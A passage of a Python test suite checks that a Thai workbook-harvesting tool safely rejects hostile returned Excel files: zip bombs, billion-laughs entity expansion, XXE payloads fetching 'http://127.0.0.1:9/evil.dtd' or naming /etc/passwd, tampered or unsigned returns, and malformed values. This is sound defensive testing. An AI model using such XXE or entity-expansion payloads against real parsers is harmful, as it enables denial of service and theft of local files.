"""Hostile returned workbooks, INTAKE.md cases 1-22, each built at test time from bytes.

Every case drops one hostile (or doubtful) file for office B01 into a returns folder that also
holds a good filled return for B02, harvests the folder, and checks: the exact problem code and
severity, the Thai message naming the file (and the sheet and cell where there is one), B01's
outcome (rejected / accepted with a warning / incomplete), that B02 is still accepted and scored,
and that every input is byte-identical afterwards. Cases 21-22 check the output side (the
summary and the command line). The crafting of bytes lives in :mod:`tests.hostile_files`.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import os
import re
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import openpyxl.writer.excel
import pytest
from click.testing import CliRunner

from workbook_engine.cli.commands import cli
from workbook_engine.devkit.testing import fill_return, sheet_values
from workbook_engine.errors import OutputError
from workbook_engine.forms import layout as L
from workbook_engine.forms.generate import generate
from workbook_engine.harvesting import intake
from workbook_engine.harvesting.outcomes import HarvestReport, OfficeOutcome, Status
from workbook_engine.harvesting.run import harvest
from workbook_engine.master.reader import load_master
from workbook_engine.model import TEXT_INPUTS, Master
from workbook_engine.problems import Problem, Severity
from workbook_engine.summary.workbook import write_summary
from workbook_engine.xlsx.zips import MAX_ENTRIES

from . import hostile_files as H
from .conftest import Converter
from .inline import VALID_MASTER, write_master

B01_RESULTS: dict[str, object] = {"2.1": 84, "2.2": 3.5, "3.1": 4}
B02_RESULTS: dict[str, object] = {"2.1": 96.3, "3.1": 5}
B01_TOTAL = Decimal("3.5030")
B02_TOTAL = Decimal("3.7600")
B01_NAME = "2569-R12-B01.xlsx"
REPORT, AGREEMENT, GUIDE, META = H.REPORT, H.AGREEMENT, H.GUIDE, H.META
KEY = b"hostile-tests signing key"
E, W = Severity.ERROR, Severity.WARNING
REJ, MISS, OK, INC = Status.REJECTED, Status.MISSING, Status.ACCEPTED, Status.INCOMPLETE
FAST = 5.0  # seconds: every hostile file must be dealt with quickly


# -- shared generated workbooks ------------------------------------------------------------------

@dataclass(frozen=True)
class Kit:
    """A master, its generated workbooks, and good filled returns as bytes."""

    root: Path
    master: Master
    gen: Path
    b01: bytes
    b02: bytes
    key: bytes | None = None
    filled: dict[str, bytes] = field(default_factory=dict)

    def filled_b01(self, results: dict[str, object],
                   texts: dict[str, dict[str, str]] | None = None) -> bytes:
        """B01's generated workbook with ``results`` (and ``texts``) typed in."""
        target = self.root / f"fill-{len(os.listdir(self.root))}.xlsx"
        data = fill_return(self.gen / B01_NAME, target, results, texts).read_bytes()
        target.unlink()
        return data


def _kit(root: Path, key: bytes | None, master_path: Path | None = None) -> Kit:
    root.mkdir(parents=True, exist_ok=True)
    master = load_master(master_path or write_master(root / "master.xlsx"))
    gen = root / "gen"
    generate(master, 12, gen, key=key, jobs=1)
    b01 = fill_return(gen / B01_NAME, root / "b01.xlsx", B01_RESULTS).read_bytes()
    b02 = fill_return(gen / "2569-R12-B02.xlsx", root / "b02.xlsx", B02_RESULTS).read_bytes()
    return Kit(root, master, gen, b01, b02, key)


@pytest.fixture(scope="module")
def kit(tmp_path_factory: pytest.TempPathFactory) -> Kit:
    """Unsigned workbooks for the whole module."""
    return _kit(tmp_path_factory.mktemp("kit"), None)


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> Kit:
    """Workbooks generated with :data:`KEY`."""
    return _kit(tmp_path_factory.mktemp("signed"), KEY)


# -- running a harvest beside a good return -------------------------------------------------------

def digests(folder: Path) -> dict[str, tuple[str, float]]:
    """SHA-256 and modification time of every file under ``folder``."""
    return {str(p.relative_to(folder)): (hashlib.sha256(p.read_bytes()).hexdigest(),
                                         p.stat().st_mtime)
            for p in sorted(folder.rglob("*")) if p.is_file()}


def beside(tmp_path: Path, kit: Kit, files: dict[str, bytes], key: bytes | None = None,
           prepare: Callable[[Path], None] | None = None) -> HarvestReport:
    """Harvest ``files`` with B02's good return in the same run; check B02 and the inputs."""
    returns = tmp_path / "returns"
    (returns / "ok").mkdir(parents=True)
    (returns / "ok" / "2569-R12-B02.xlsx").write_bytes(kit.b02)
    for name, data in files.items():
        (returns / name).parent.mkdir(parents=True, exist_ok=True)
        (returns / name).write_bytes(data)
    if prepare is not None:
        prepare(returns)
    before = digests(returns)
    report = harvest([returns], kit.master, 12, key=key if key is not None else kit.key, jobs=1)
    assert digests(returns) == before, "harvest changed an input"
    b02 = office(report, "B02")
    assert b02.status is OK, [p.message for p in report.problems]
    assert b02.total_score == B02_TOTAL
    assert all(k.score is not None for k in b02.kpis)
    result = report.as_json()
    given = {str(returns / name) for name in before}
    mentioned = {o["file"] for o in result["offices"]} | {p["file"] for p in result["problems"]}
    mentioned.discard(None)
    assert all(name in mentioned or any(m.startswith(name + "/") for m in mentioned)
               for name in given), "every file given (an archive: its members) appears"
    records = [f.file for f in report.files]
    assert len(records) == len(set(records)), "one outcome per file"
    assert all(r in given or r.rpartition(".zip/")[0] + ".zip" in given for r in records)
    for p in report.problems:
        assert not UNCLEAR.search(p.message), f"unclear message: {p.message}"
        assert "\n" not in p.message and len(p.message) < 1_000
    return report


# what no message may show: a Python class name, a raw XML namespace, a reason repeating the text
UNCLEAR = re.compile(r"[A-Z][a-z]+(?:Error|Exception|Forbidden|Workbook|ZipFile)\b|\{http|"
                     r"NotAWorkbook|ParseError|BadZipFile|ไม่ใช่สมุดงาน Excel \(ไม่ใช่สมุดงาน Excel")


def office(report: HarvestReport, code: str) -> OfficeOutcome:
    return next(o for o in report.offices if o.office == code)


def expect(report: HarvestReport, code: str, severity: Severity, file: str,
           sheet: str | None = None, cell: str | None = None) -> Problem:
    """The problem ``code`` about ``file``, with its severity and a Thai message naming where."""
    found = [p for p in report.problems if p.code == code and (p.file or "").endswith(file)
             and (cell is None or p.cell == cell)]
    assert found, f"{code} {cell} for {file} not in " \
        f"{[(p.code, p.file, p.sheet, p.cell) for p in report.problems]}"
    p = found[0]
    assert p.severity is severity
    as_dict = p.as_dict()
    assert as_dict["code"] == code and as_dict["severity"] == severity.value
    assert as_dict["file"] == p.file and file in as_dict["message"]
    assert f"ไฟล์ {p.file}" in p.message, "the message names the file"
    assert any("\u0e00" <= ch <= "\u0e7f" for ch in p.message), "the message is in Thai"
    if sheet is not None:
        assert as_dict["sheet"] == sheet and f"ชีต '{sheet}'" in p.message
    if cell is not None:
        assert as_dict["cell"] == cell and f"เซลล์ {cell}" in p.message
    return p


def harvest_one(tmp_path: Path, kit: Kit, name: str, data: bytes, code: str,
                severity: Severity, status: Status, sheet: str | None = None,
                cell: str | None = None, key: bytes | None = None) -> HarvestReport:
    """One hostile file for B01 beside B02; its expected problem and B01's outcome."""
    started = time.monotonic()
    report = beside(tmp_path, kit, {name: data}, key)
    assert time.monotonic() - started < FAST
    expect(report, code, severity, name, sheet, cell)
    b01 = office(report, "B01")
    assert b01.status is status, [(p.code, p.message) for p in report.problems]
    if status is OK:
        assert b01.total_score is not None
    else:
        assert b01.total_score is None
        assert report.as_json()["offices"][0]["total_score"] is None
    if status is MISS:
        assert not any(p.office == "B01" for p in report.problems if p.code == code)
    return report


# -- INTAKE 1-8: not a workbook, or not one we can read -------------------------------------------

@dataclass(frozen=True)
class FileCase:
    """A hostile file built from B01's good return, and what harvest must make of it."""

    intake: int
    build: Callable[[bytes], bytes]
    code: str
    severity: Severity
    status: Status
    name: str = B01_NAME
    sheet: str | None = None
    cell: str | None = None


UTF16_CSV = "\ufeffรหัส\tผล\n2.1\t84\n".encode("utf-16-le")
EMPTY_ZIP = b"PK\x05\x06" + bytes(18)
REPORT_SHEET_PART = "xl/worksheets/sheet4.xml"
PAGES_SHEET_PART = "xl/worksheets/sheet5.xml"        # the per-KPI report
META_SHEET_PART = "xl/worksheets/sheet7.xml"
LAUGHS = {root: H.billion_laughs(root) for root in (b"workbook", b"worksheet", b"Types",
                                                     b"Relationships")}

FILE_CASES: dict[str, FileCase] = {
    # 1: empty, truncated, text renamed .xlsx
    "empty": FileCase(1, lambda d: b"", "FILE_EMPTY", E, MISS),
    "truncated half way": FileCase(1, H.truncated, "FILE_CORRUPT", E, MISS),
    "truncated by ten bytes": FileCase(1, H.no_central_directory, "FILE_CORRUPT", E, MISS),
    "zip magic then garbage": FileCase(1, lambda d: b"PK\x03\x04" + os.urandom(300),
                                       "FILE_CORRUPT", E, MISS),
    "csv renamed": FileCase(1, lambda d: H.CSV, "FILE_NOT_WORKBOOK", E, MISS),
    "utf-16 tsv renamed": FileCase(1, lambda d: UTF16_CSV, "FILE_NOT_WORKBOOK", E, MISS),
    "html renamed": FileCase(1, lambda d: H.HTML, "FILE_NOT_WORKBOOK", E, MISS),
    "text renamed": FileCase(1, lambda d: H.TEXT, "FILE_NOT_WORKBOOK", E, MISS),
    "empty zip": FileCase(1, lambda d: EMPTY_ZIP, "FILE_NOT_WORKBOOK", E, MISS),
    # 2: password to open
    "encrypted": FileCase(2, H.encrypted, "FILE_ENCRYPTED", E, MISS),
    # 3: other spreadsheet formats (real .xls and .ods from LibreOffice further down)
    "xlsb": FileCase(3, H.xlsb, "FILE_OTHER_FORMAT", E, MISS, name="2569-R12-B01.xlsb"),
    "xlsb named xlsx": FileCase(3, H.xlsb, "FILE_OTHER_FORMAT", E, MISS),
    "numbers": FileCase(3, H.numbers, "FILE_OTHER_FORMAT", E, MISS,
                        name="2569-R12-B01.numbers"),
    "ods crafted": FileCase(3, H.ods, "FILE_OTHER_FORMAT", E, MISS, name="2569-R12-B01.ods"),
    "ods named xlsx": FileCase(3, H.ods, "FILE_OTHER_FORMAT", E, MISS),
    # 4: macro-enabled
    "xlsm": FileCase(4, H.macro_enabled, "FILE_MACROS", W, OK, name="2569-R12-B01.xlsm"),
    "xlsm named xlsx": FileCase(4, H.macro_enabled, "FILE_MACROS", W, OK),
    # 5: a zip that is not a workbook; Strict Open XML
    "docx renamed": FileCase(5, H.docx, "FILE_NOT_WORKBOOK", E, MISS),
    "photos zip renamed": FileCase(5, H.any_zip, "FILE_NOT_WORKBOOK", E, MISS),
    "strict ooxml": FileCase(5, H.strict, "FILE_STRICT_OOXML", E, MISS),
    # 6: zip bombs
    "1,500 entries": FileCase(6, H.too_many_entries, "FILE_ZIP_BOMB", E, MISS),
    "70 MB part": FileCase(6, lambda d: H.compressible_part(d, 70 << 20), "FILE_ZIP_BOMB", E,
                           MISS),
    "8 MB part at ratio 1000": FileCase(6, lambda d: H.compressible_part(d, 8 << 20),
                                        "FILE_ZIP_BOMB", E, MISS),
    "report sheet inflates to 40 MB": FileCase(6, lambda d: H.bomb_report_sheet(d, 40 << 20),
                                               "FILE_ZIP_BOMB", E, MISS),
    # 7: entity expansion and external entities, wherever they are
    "billion laughs in workbook.xml": FileCase(
        7, lambda d: H.with_doctype(d, "xl/workbook.xml", b"workbook", LAUGHS[b"workbook"]),
        "FILE_UNSAFE_XML", E, MISS),
    "billion laughs in content types": FileCase(
        7, lambda d: H.with_doctype(d, "[Content_Types].xml", b"Types", LAUGHS[b"Types"]),
        "FILE_UNSAFE_XML", E, MISS),
    "billion laughs in workbook rels": FileCase(
        7, lambda d: H.with_doctype(d, "xl/_rels/workbook.xml.rels", b"Relationships",
                                    LAUGHS[b"Relationships"]),
        "FILE_UNSAFE_XML", E, MISS),
    "billion laughs in _meta": FileCase(
        7, lambda d: H.with_doctype(d, META_SHEET_PART, b"worksheet", LAUGHS[b"worksheet"]),
        "FILE_UNSAFE_XML", E, MISS),
    "billion laughs used in report sheet": FileCase(
        7, lambda d: H.with_doctype(d, REPORT_SHEET_PART, b"worksheet", LAUGHS[b"worksheet"],
                                    b"<!-- &lol9; -->"),
        "FILE_UNSAFE_XML", E, REJ),
    "external entity in workbook.xml": FileCase(
        7, lambda d: H.with_doctype(d, "xl/workbook.xml", b"workbook",
                                    H.EXTERNAL % b"workbook"),
        "FILE_UNSAFE_XML", E, MISS),
    "external parameter entity": FileCase(
        7, lambda d: H.with_doctype(d, "xl/workbook.xml", b"workbook",
                                    b'<!DOCTYPE workbook [<!ENTITY % p SYSTEM '
                                    b'"http://127.0.0.1:9/evil.dtd"> %p;]>'),
        "FILE_UNSAFE_XML", E, MISS),
    "entities in utf-16 workbook.xml": FileCase(
        7, lambda d: H.rezip(d, {"xl/workbook.xml": H.part(
            H.with_doctype(d, "xl/workbook.xml", b"workbook", LAUGHS[b"workbook"]),
            "xl/workbook.xml").decode("utf-8").encode("utf-16")}),
        "FILE_UNSAFE_XML", E, MISS),
}


@pytest.mark.parametrize("case", FILE_CASES.values(), ids=FILE_CASES.keys())
def test_file_level_case(case: FileCase, kit: Kit, tmp_path: Path) -> None:
    """INTAKE 1-7: sniffed by bytes, rejected (or warned) with the exact code, fast."""
    harvest_one(tmp_path, kit, case.name, case.build(kit.b01), case.code, case.severity,
                case.status, case.sheet, case.cell)


def test_encrypted_file_is_really_an_ole2_container(kit: Kit) -> None:
    """INTAKE 2: the crafted file is what Excel writes (OLE2 magic), so the test is honest."""
    assert H.encrypted(kit.b01).startswith(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")


def test_macro_enabled_return_scores_like_the_plain_one(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 4: an .xlsm is read (macros never run or kept) and scores the same."""
    report = harvest_one(tmp_path, kit, "2569-R12-B01.xlsm", H.macro_enabled(kit.b01),
                         "FILE_MACROS", W, OK)
    assert office(report, "B01").total_score == B01_TOTAL


def test_zip_bomb_inside_an_archive_of_returns(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 6: an e-mailed .zip of returns with too many entries is refused as a whole."""
    bomb = H.make_zip({f"r/{i}": b"" for i in range(intake.ARCHIVE_CAPS.entries + 1)})
    harvest_one(tmp_path, kit, "returns.zip", bomb, "FILE_ZIP_BOMB", E, MISS)


def test_an_archive_of_returns_has_caps_of_its_own(kit: Kit, tmp_path: Path) -> None:
    """A national archive holds more returns than a workbook may hold parts: B01's return
    among 1,500 other members is read, each other member told on its own."""
    members = {f"r/{i:04d}.txt": b"evidence %d" % i for i in range(1_500)}
    archive = H.make_zip({**members, f"r/{B01_NAME}": kit.filled_b01(B01_RESULTS)})
    assert len(members) > MAX_ENTRIES
    report = beside(tmp_path, kit, {"national.zip": archive})
    assert office(report, "B01").total_score == B01_TOTAL
    assert sum(p.code == "FILE_NOT_WORKBOOK" for p in report.problems) == len(members)


def test_zip_bomb_message_is_not_nested(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 6: the zip-bomb message says what was exceeded once, in plain Thai."""
    report = harvest_one(tmp_path, kit, B01_NAME, H.too_many_entries(kit.b01),
                         "FILE_ZIP_BOMB", E, MISS)
    [bomb] = [p for p in report.problems if p.code == "FILE_ZIP_BOMB"]
    assert bomb.message.count(f"ไฟล์ {bomb.file}") == 1
    assert bomb.message.count("โครงสร้างไฟล์ผิดปกติ") == 1


def test_external_entity_is_never_resolved(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 7: an entity naming /etc/passwd, used in a cell, never reaches any output."""
    data = H.with_doctype(kit.b01, PAGES_SHEET_PART, b"worksheet", H.EXTERNAL % b"worksheet")
    note = L.text_ref(1, L.TEXT_INPUT["note"]).encode()       # 2.1's note
    data = H.cell_xml(data, note.decode(),
                      b'<c r="' + note + b'" t="inlineStr"><is><t>&xxe;</t></is></c>',
                      L.KPI_REPORT_SHEET)
    report = harvest_one(tmp_path, kit, B01_NAME, data, "FILE_UNSAFE_XML", E, REJ)
    assert "root:" not in json.dumps(report.as_json(), ensure_ascii=False)


@pytest.mark.parametrize("build", [H.lying_dimension, H.huge_formatted_range,
                                   H.huge_row_numbers],
                         ids=["dimension A1:XFD1048576", "60,000 formatted rows",
                              "row 99,999,999,999"])
def test_lying_dimensions_and_huge_ranges_cost_nothing(build: Callable[[bytes], bytes],
                                                       kit: Kit, tmp_path: Path) -> None:
    """INTAKE 8: only the template's cells are read; the return is accepted, quickly."""
    data = build(kit.b01)
    started = time.monotonic()
    report = beside(tmp_path, kit, {B01_NAME: data})
    assert time.monotonic() - started < FAST
    b01 = office(report, "B01")
    assert b01.status is OK and b01.total_score == B01_TOTAL
    assert not [p for p in report.problems if p.severity is E]


# -- INTAKE 9-14: a workbook, but not a valid return -----------------------------------------------

@dataclass(frozen=True)
class EditCase:
    """B01's good return edited in openpyxl (protection removed), and the expected problem."""

    intake: int
    changes: tuple[H.Change, ...]
    code: str
    status: Status
    sheet: str | None = None
    cell: str | None = None


def _locked(sheet: str, cell: str, value: object) -> EditCase:
    return EditCase(11, (H.set_cell(sheet, cell, value),), "RETURN_LOCKED_CHANGED", REJ,
                    sheet, cell)


EDIT_CASES: dict[str, EditCase] = {
    # 9: not ours, other year or round, unknown office, other schema
    "no _meta sheet": EditCase(9, (H.remove_sheet(META),), "RETURN_NOT_OURS", MISS),
    "_meta without office": EditCase(9, (H.drop_meta_key("office"),), "RETURN_NOT_OURS", MISS),
    "_meta without fingerprint": EditCase(9, (H.drop_meta_key("fingerprint"),),
                                          "RETURN_NOT_OURS", MISS),
    "fiscal year 2568": EditCase(9, (H.set_meta("fiscal_year", "2568"),), "RETURN_WRONG_YEAR",
                                 REJ, META),
    "fiscal year as a number": EditCase(9, (H.set_meta("fiscal_year", 2570),),
                                        "RETURN_WRONG_YEAR", REJ, META),
    "round 6": EditCase(9, (H.set_meta("round", "6"),), "RETURN_WRONG_ROUND", REJ, META),
    "unknown office": EditCase(9, (H.set_meta("office", "X99"),), "RETURN_UNKNOWN_OFFICE", MISS,
                               META),
    "schema 1 (texts on the report table)": EditCase(9, (H.set_meta("schema_version", "1"),),
                                                     "RETURN_SCHEMA", REJ, META),
    # 10: stale fingerprint
    "fingerprint edited": EditCase(10, (H.set_meta("fingerprint", "0" * 64),), "RETURN_STALE",
                                   REJ, META),
    # 11: every locked value of the report form and the agreement, rows and sheets
    "report group": _locked(REPORT, "A8", 3),
    "report code": _locked(REPORT, "B8", "2.9"),
    "report name": _locked(REPORT, "C8", "ตัวชี้วัดที่แก้ชื่อ"),
    "report unit": _locked(REPORT, "D9", "ชั่วโมง"),
    "report weight": _locked(REPORT, "E8", 45),
    "report weight as text": _locked(REPORT, "E8", "สี่สิบ"),
    **{f"report criterion {n}": _locked(REPORT, f"{col}8", 1)
       for n, col in enumerate("FGHIJ", start=1)},
    "report criterion cleared": _locked(REPORT, "J9", None),
    "milestone level number": _locked(REPORT, "H10", 7),
    "report total label": _locked(REPORT, "A11", "รวมทั้งหมด"),
    "agreement code": _locked(AGREEMENT, "B12", "9.9"),
    "agreement name": _locked(AGREEMENT, "C12", "ชื่อใหม่"),
    "agreement weight": _locked(AGREEMENT, "E12", 60),
    "agreement criterion 5": _locked(AGREEMENT, "J13", 0.5),
    "row inserted": EditCase(11, (H.insert_rows(REPORT, 8),), "RETURN_LOCKED_CHANGED", REJ,
                             REPORT, "B8"),
    "row deleted": EditCase(11, (H.delete_rows(REPORT, 9),), "RETURN_LOCKED_CHANGED", REJ,
                            REPORT, "B9"),
    "agreement row deleted": EditCase(11, (H.delete_rows(AGREEMENT, 12),),
                                      "RETURN_LOCKED_CHANGED", REJ, AGREEMENT, "B12"),
    "report sheet deleted": EditCase(11, (H.remove_sheet(REPORT),), "RETURN_SHEET_MISSING", REJ),
    "agreement sheet renamed": EditCase(11, (H.rename_sheet(AGREEMENT, "คำรับรอง (2)"),),
                                        "RETURN_SHEET_MISSING", REJ),
    "guide sheet deleted": EditCase(11, (H.remove_sheet(GUIDE),), "RETURN_SHEET_MISSING", REJ),
    # 19: user additions that are only warned about
    "hidden result row": EditCase(19, (H.hide_row(REPORT, 9),), "RETURN_HIDDEN", OK, REPORT),
    "hidden agreement row": EditCase(19, (H.hide_row(AGREEMENT, 12),), "RETURN_HIDDEN", OK,
                                     AGREEMENT),
    "hidden template sheet": EditCase(19, (H.hide_sheet(GUIDE),), "RETURN_HIDDEN", OK, GUIDE),
    "extra hidden sheet": EditCase(19, (H.add_sheet("ซ่อนไว้", "hidden"),),
                                   "RETURN_EXTRA_SHEET", OK, "ซ่อนไว้"),
    "extra veryHidden sheet": EditCase(19, (H.add_sheet("ลับ", "veryHidden"),),
                                       "RETURN_EXTRA_SHEET", OK, "ลับ"),
    "extra visible sheet": EditCase(19, (H.add_sheet("Sheet1"),), "RETURN_EXTRA_SHEET", OK,
                                    "Sheet1"),
    # 20: defined names lost by another program: the known layout is used
    "defined names dropped": EditCase(20, (H.drop_defined_names,), "RETURN_NAMES_BROKEN", OK,
                                      REPORT),
}


@pytest.mark.parametrize("case", EDIT_CASES.values(), ids=EDIT_CASES.keys())
def test_edited_return(case: EditCase, kit: Kit, tmp_path: Path) -> None:
    """INTAKE 9-11, 19-20: the exact problem with its sheet and cell; B01's outcome."""
    report = harvest_one(tmp_path, kit, B01_NAME, H.edit(kit.b01, *case.changes), case.code,
                         E if case.status in (REJ, MISS) else W, case.status, case.sheet,
                         case.cell)
    if case.status is OK:
        assert office(report, "B01").total_score == B01_TOTAL


def test_sheet_missing_message_names_the_sheet(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 11: a deleted or renamed sheet is named in the Thai message."""
    data = H.edit(kit.b01, H.rename_sheet(REPORT, "รายงาน"))
    report = harvest_one(tmp_path, kit, B01_NAME, data, "RETURN_SHEET_MISSING", E, REJ)
    [missing] = [p for p in report.problems if p.code == "RETURN_SHEET_MISSING"]
    assert f"'{REPORT}'" in missing.message and missing.office == "B01"


def test_every_tampered_cell_is_reported(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 11: several locked cells changed: each difference with its own cell, then reject."""
    changes = {(REPORT, "E8"): 30, (REPORT, "E9"): 30, (REPORT, "G9"): 9,
               (REPORT, "C10"): "ชื่อที่แก้", (AGREEMENT, "E12"): 30}
    data = H.edit(kit.b01, *(H.set_cell(s, c, v) for (s, c), v in changes.items()))
    report = harvest_one(tmp_path, kit, B01_NAME, data, "RETURN_LOCKED_CHANGED", E, REJ)
    found = {(p.sheet, p.cell) for p in report.problems if p.code == "RETURN_LOCKED_CHANGED"}
    assert found == set(changes)
    for p in report.problems:
        if p.code == "RETURN_LOCKED_CHANGED":
            expect(report, p.code, E, B01_NAME, p.sheet, p.cell)
    e8 = next(p for p in report.problems if p.cell == "E8")
    assert "'40'" in e8.message and "'30'" in e8.message, "expected and found values are shown"
    assert office(report, "B01").kpis == []


def test_stale_template_from_an_older_master(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 10: generated before the master's weights changed: rejected as stale."""
    rules = VALID_MASTER["เกณฑ์"].replace("| B01        | '2.1'      | 40 ",
                                         "| B01        | '2.1'      | 30 ")
    rules = rules.replace("| B01        | '2.2'      | 20 ", "| B01        | '2.2'      | 30 ")
    old = _kit(tmp_path / "old", None, write_master(tmp_path / "old.xlsx", **{"เกณฑ์": rules}))
    assert old.master.fingerprint("B01") != kit.master.fingerprint("B01")
    harvest_one(tmp_path, kit, B01_NAME, old.b01, "RETURN_STALE", E, REJ, META)


@pytest.mark.parametrize(("how", "code"), [
    ("unsigned", "RETURN_SIGNATURE_MISSING"),
    ("signature blanked", "RETURN_SIGNATURE_MISSING"),
    ("signature forged", "RETURN_SIGNATURE_INVALID"),
    ("signed with another key", "RETURN_SIGNATURE_INVALID"),
    ("signed meta edited", "RETURN_SIGNATURE_INVALID"),
])
def test_signature_when_a_key_is_configured(how: str, code: str, kit: Kit, signed: Kit,
                                            tmp_path: Path) -> None:
    """INTAKE 12: with a key, a missing or wrong signature rejects the return."""
    if how == "unsigned":
        data = kit.b01
    elif how == "signature blanked":
        data = H.edit(signed.b01, H.set_meta("signature", None))
    elif how == "signature forged":
        data = H.edit(signed.b01, H.set_meta("signature", "ab" * 32))
    elif how == "signed with another key":
        data = _kit(tmp_path / "other", b"some other key").b01
    else:  # a valid signature, but a signed value changed afterwards
        data = H.edit(signed.b01, H.set_meta("fingerprint", kit.master.fingerprint("B02")))
    harvest_one(tmp_path, signed, B01_NAME, data, code, E, REJ, META)


def test_signed_return_is_accepted(signed: Kit, tmp_path: Path) -> None:
    """INTAKE 12: the right signature passes and scores."""
    report = beside(tmp_path, signed, {B01_NAME: signed.b01})
    assert office(report, "B01").total_score == B01_TOTAL
    assert not report.problems


def saved_at(monkeypatch: pytest.MonkeyPatch, moment: dt.datetime) -> None:
    """Make openpyxl stamp ``moment`` as the workbook's saved time (docProps/core.xml)."""

    class Clock(dt.datetime):
        @classmethod
        def now(cls, tz: dt.tzinfo | None = None) -> Clock:
            return cls.fromtimestamp(moment.timestamp(), tz)

    monkeypatch.setattr(openpyxl.writer.excel, "datetime",
                        SimpleNamespace(datetime=Clock, timezone=dt.timezone))


def test_two_returns_for_one_office_the_last_saved_wins(kit: Kit, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """INTAKE 13: the conflict is reported; the one saved last is used, the other named."""
    saved_at(monkeypatch, dt.datetime(2026, 10, 1, 9, 0, tzinfo=dt.UTC))
    old = kit.filled_b01({**B01_RESULTS, "2.1": 60})
    saved_at(monkeypatch, dt.datetime(2026, 10, 20, 9, 0, tzinfo=dt.UTC))
    new = kit.filled_b01(B01_RESULTS)
    monkeypatch.undo()

    def file_times_lie(returns: Path) -> None:  # the file times say the opposite
        os.utime(returns / "b-new.xlsx", (1_700_000_000, 1_700_000_000))
        os.utime(returns / "a-old.xlsx", (1_800_000_000, 1_800_000_000))

    report = beside(tmp_path, kit, {"a-old.xlsx": old, "b-new.xlsx": new},
                    prepare=file_times_lie)
    b01 = office(report, "B01")
    assert b01.file is not None and b01.file.endswith("b-new.xlsx")
    assert b01.total_score == B01_TOTAL
    p = expect(report, "RETURN_DUPLICATE", W, "a-old.xlsx")
    assert "b-new.xlsx" in p.message and p.office == "B01"
    verdicts = {Path(f.file).name: f.outcome for f in report.files}
    assert verdicts["a-old.xlsx"] == "ignored"


def test_same_bytes_twice_is_not_a_conflict(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 13: identical bytes under two names count once, with a warning only."""
    report = beside(tmp_path, kit, {B01_NAME: kit.b01, "สำเนา/B01 copy.xlsx": kit.b01})
    assert not [p for p in report.problems if p.code == "RETURN_DUPLICATE"]
    p = expect(report, "RETURN_SAME_FILE_TWICE", W, "สำเนา/B01 copy.xlsx")
    assert B01_NAME in p.message
    assert office(report, "B01").total_score == B01_TOTAL


def test_file_name_says_another_office(kit: Kit, tmp_path: Path) -> None:
    """INTAKE 14: B01's return named as B02's: _meta decides, with a warning."""
    report = harvest_one(tmp_path, kit, "2569-R12-B02.xlsx", kit.b01, "RETURN_NAME_MISMATCH",
                         W, OK)
    p = next(p for p in report.problems if p.code == "RETURN_NAME_MISMATCH")
    assert "B02" in p.message and "B01" in p.message and p.office == "B01"
    assert office(report, "B01").total_score == B01_TOTAL
    assert not [p for p in report.problems if p.code == "RETURN_DUPLICATE"]


# -- INTAKE 15-17: a valid return with doubtful values ---------------------------------------------

@dataclass(frozen=True)
class ResultCase:
    """B01 filled with ``results``; the problem expected on one result cell."""

    intake: int
    results: dict[str, object]
    code: str
    severity: Severity
    status: Status
    cell: str


RESULT_CASES: dict[str, ResultCase] = {
    "result missing": ResultCase(15, {"2.1": 84, "3.1": 4}, "RESULT_MISSING", E, INC, "K9"),
    "result only spaces": ResultCase(15, {**B01_RESULTS, "2.2": "   "}, "RESULT_MISSING", E, INC,
                                     "K9"),
    "formula": ResultCase(15, {**B01_RESULTS, "2.1": "=80+4"}, "RESULT_FORMULA", E, INC, "K8"),
    "formula referring elsewhere": ResultCase(15, {**B01_RESULTS, "3.1": "='คำรับรอง'!E12/10"},
                                              "RESULT_FORMULA", E, INC, "K10"),
    "#DIV/0!": ResultCase(15, {**B01_RESULTS, "2.2": "#DIV/0!"}, "RESULT_ERROR_VALUE", E, INC,
                          "K9"),
    "#REF!": ResultCase(15, {**B01_RESULTS, "2.1": "#REF!"}, "RESULT_ERROR_VALUE", E, INC, "K8"),
    "#N/A": ResultCase(15, {**B01_RESULTS, "3.1": "#N/A"}, "RESULT_ERROR_VALUE", E, INC, "K10"),
    "text not a number": ResultCase(15, {**B01_RESULTS, "2.2": "ประมาณ 3 วัน"},
                                    "RESULT_NOT_NUMBER", E, INC, "K9"),
    "ambiguous separators": ResultCase(15, {**B01_RESULTS, "2.2": "1.234,5"},
                                       "RESULT_NOT_NUMBER", E, INC, "K9"),
    "misplaced comma": ResultCase(15, {**B01_RESULTS, "2.2": "3,5"}, "RESULT_NOT_NUMBER", E,
                                  INC, "K9"),
    "percent sign on days": ResultCase(15, {**B01_RESULTS, "2.2": "35%"}, "RESULT_NOT_NUMBER",
                                       E, INC, "K9"),
    "boolean": ResultCase(15, {**B01_RESULTS, "2.1": True}, "RESULT_NOT_NUMBER", E, INC, "K8"),
    "number with words": ResultCase(15, {**B01_RESULTS, "2.1": "84 (ประมาณ)"},
                                    "RESULT_NOT_NUMBER", E, INC, "K8"),
    "milestone 7": ResultCase(17, {**B01_RESULTS, "3.1": 7}, "RESULT_MILESTONE_INVALID", E, INC,
                              "K10"),
    "milestone 2.5": ResultCase(17, {**B01_RESULTS, "3.1": 2.5}, "RESULT_MILESTONE_INVALID", E,
                                INC, "K10"),
    "milestone -1": ResultCase(17, {**B01_RESULTS, "3.1": -1}, "RESULT_MILESTONE_INVALID", E,
                               INC, "K10"),
    "milestone text 6": ResultCase(17, {**B01_RESULTS, "3.1": "๖"}, "RESULT_MILESTONE_INVALID",
                                   E, INC, "K10"),
    "negative percent": ResultCase(17, {**B01_RESULTS, "2.1": -5}, "RESULT_NEGATIVE_PERCENT", E,
                                   INC, "K8"),
    "negative percent as text": ResultCase(17, {**B01_RESULTS, "2.1": "-5%"},
                                           "RESULT_NEGATIVE_PERCENT", E, INC, "K8"),
